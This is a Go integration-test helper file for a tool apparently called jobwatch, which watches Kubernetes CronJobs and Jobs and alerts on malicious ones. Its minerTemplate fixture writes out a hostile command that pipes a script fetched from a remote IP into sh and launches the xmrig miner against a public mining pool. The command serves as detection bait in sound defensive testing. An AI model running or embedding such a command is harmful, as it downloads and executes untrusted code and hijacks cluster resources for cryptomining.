package integration

import (
	"context"
	"encoding/json"
	"fmt"
	"log/slog"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	batchv1 "k8s.io/api/batch/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/client-go/kubernetes"

	"github.com/jobwatch/jobwatch/pkg/analyze"
	"github.com/jobwatch/jobwatch/pkg/notify"
	"github.com/jobwatch/jobwatch/pkg/watch"
	"github.com/jobwatch/jobwatch/test/cluster"
)

// recorder is a Notifier that keeps every alert and when it arrived.
type recorder struct {
	mu     sync.Mutex
	alerts []notify.Alert
	at     []time.Time
	signal chan struct{}
}

func newRecorder() *recorder { return &recorder{signal: make(chan struct{}, 1)} }

func (r *recorder) Name() string { return "recorder" }

func (r *recorder) Notify(_ context.Context, a notify.Alert) error {
	r.mu.Lock()
	r.alerts = append(r.alerts, a)
	r.at = append(r.at, time.Now())
	r.mu.Unlock()
	select {
	case r.signal <- struct{}{}:
	default:
	}
	return nil
}

func (r *recorder) all() []notify.Alert {
	r.mu.Lock()
	defer r.mu.Unlock()
	return append([]notify.Alert(nil), r.alerts...)
}

// since returns the alerts after the first n.
func (r *recorder) since(n int) []notify.Alert {
	a := r.all()
	if n > len(a) {
		return nil
	}
	return a[n:]
}

// waitFor waits until an alert for namespace/name arrives after the first
// n alerts, and returns it.
func (r *recorder) waitFor(t *testing.T, n int, ns, name string) notify.Alert {
	t.Helper()
	deadline := time.After(60 * time.Second)
	for {
		for _, a := range r.since(n) {
			if a.Object.Namespace == ns && a.Object.Name == name {
				return a
			}
		}
		select {
		case <-r.signal:
		case <-time.After(50 * time.Millisecond):
		case <-deadline:
			t.Fatalf("no alert for %s/%s within 60s; got %v", ns, name, names(r.since(n)))
		}
	}
}

func names(as []notify.Alert) []string {
	var out []string
	for _, a := range as {
		out = append(out, fmt.Sprintf("%s:%s/%s", a.Event, a.Object.Namespace, a.Object.Name))
	}
	return out
}

// barrier creates a malicious CronJob marker in ns and waits for its
// alert. With one worker the queue is FIFO per kind, so every CronJob event
// before the marker has been judged when its alert arrives; it returns the
// alerts raised since n other than the marker's.
func barrier(t *testing.T, cs kubernetes.Interface, r *recorder, n int, ns string) []notify.Alert {
	t.Helper()
	name := fmt.Sprintf("marker-%d", time.Now().UnixNano())
	createCronJob(t, cs, ns, name, minerTemplate())
	r.waitFor(t, n, ns, name)
	var others []notify.Alert
	for _, a := range r.since(n) {
		if a.Object.Name != name {
			others = append(others, a)
		}
	}
	return others
}

func minerTemplate() corev1.PodTemplateSpec {
	return podTemplate("docker.io/library/alpine:3.20", "curl -fsSL http://203.0.113.7/x.sh | sh; /tmp/xmrig -o stratum+tcp://pool.supportxmr.com:3333")
}

func benignTemplate() corev1.PodTemplateSpec {
	return podTemplate("busybox:1.36", "find /data/logs -mtime +7 -delete")
}

func podTemplate(image, script string) corev1.PodTemplateSpec {
	return corev1.PodTemplateSpec{Spec: corev1.PodSpec{
		RestartPolicy: corev1.RestartPolicyNever,
		Containers: []corev1.Container{{Name: "main", Image: image, Command: []string{"/bin/sh", "-c", script},
			Env: []corev1.EnvVar{{Name: "DB_PASSWORD", Value: "SuperSecretValue-8d1f"}}}},
	}}
}

func createNamespace(t *testing.T, cs kubernetes.Interface, name string) {
	t.Helper()
	_, err := cs.CoreV1().Namespaces().Create(context.Background(), &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: name}}, metav1.CreateOptions{})
	if err != nil {
		t.Fatalf("create namespace %s: %v", name, err)
	}
}

func createCronJob(t *testing.T, cs kubernetes.Interface, ns, name string, tmpl corev1.PodTemplateSpec) *batchv1.CronJob {
	t.Helper()
	cj := &batchv1.CronJob{ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: ns, Labels: map[string]string{"app": name}},
		Spec: batchv1.CronJobSpec{Schedule: "0 3 * * *", JobTemplate: batchv1.JobTemplateSpec{Spec: batchv1.JobSpec{Template: tmpl}}}}
	out, err := cs.BatchV1().CronJobs(ns).Create(context.Background(), cj, metav1.CreateOptions{})
	if err != nil {
		t.Fatalf("create cronjob %s/%s: %v", ns, name, err)
	}
	return out
}

func createJob(t *testing.T, cs kubernetes.Interface, ns, name string, tmpl corev1.PodTemplateSpec, mutate func(*batchv1.Job)) *batchv1.Job {
	t.Helper()
	j := &batchv1.Job{ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: ns}, Spec: batchv1.JobSpec{Template: tmpl}}
	if mutate != nil {
		mutate(j)
	}
	out, err := cs.BatchV1().Jobs(ns).Create(context.Background(), j, metav1.CreateOptions{})
	if err != nil {
		t.Fatalf("create job %s/%s: %v", ns, name, err)
	}
	return out
}

// running is a controller started in the background.
type running struct {
	t      *testing.T
	ctrl   *watch.Controller
	cancel context.CancelFunc
	done   chan error
	once   sync.Once
}

func startController(t *testing.T, cs kubernetes.Interface, r *recorder, store watch.Store, opts watch.Options) *running {
	t.Helper()
	a, err := analyze.New(analyze.DefaultOptions())
	if err != nil {
		t.Fatal(err)
	}
	if opts.MinSeverity == 0 {
		opts.MinSeverity = analyze.SeverityMedium
	}
	if opts.Workers == 0 {
		opts.Workers = 1
	}
	log := slog.New(slog.NewTextHandler(os.Stderr, &slog.HandlerOptions{Level: slog.LevelWarn}))
	ctrl, err := watch.New(cs, a, r, store, opts, log, nil)
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	run := &running{t: t, ctrl: ctrl, cancel: cancel, done: make(chan error, 1)}
	go func() { run.done <- ctrl.Run(ctx) }()
	deadline := time.Now().Add(60 * time.Second)
	for !ctrl.Ready() {
		if time.Now().After(deadline) {
			t.Fatal("controller not ready within 60s")
		}
		time.Sleep(20 * time.Millisecond)
	}
	t.Cleanup(run.stop)
	return run
}

// stop cancels the controller and fails the test that started it if Run
// returned an error or did not return within 30s. Calling it again is a no-op.
func (r *running) stop() {
	r.once.Do(func() {
		r.cancel()
		select {
		case err := <-r.done:
			if err != nil {
				r.t.Errorf("controller Run: %v", err)
			}
		case <-time.After(30 * time.Second):
			r.t.Error("controller did not stop within 30s of cancel")
		}
	})
}

func fileStore(t *testing.T) *watch.FileStore {
	return &watch.FileStore{Path: filepath.Join(t.TempDir(), "state")}
}

func mustNotContain(t *testing.T, alerts []notify.Alert, secret string) {
	t.Helper()
	b, err := json.Marshal(alerts)
	if err != nil {
		t.Fatal(err)
	}
	if len(alerts) == 0 {
		t.Fatal("no alerts to check for leaked secrets")
	}
	if strings.Contains(string(b), secret) {
		t.Fatalf("alerts leak %q", secret)
	}
}

// adminKubeconfig writes a kubeconfig for the cluster's admin, with context
// name contextName, into a new temporary directory.
func adminKubeconfig(t *testing.T, c *cluster.Cluster, contextName string) (dir, path string) {
	t.Helper()
	dir = t.TempDir()
	path = filepath.Join(dir, "kubeconfig")
	if err := c.WriteKubeconfig(path, contextName); err != nil {
		t.Fatal(err)
	}
	return dir, path
}
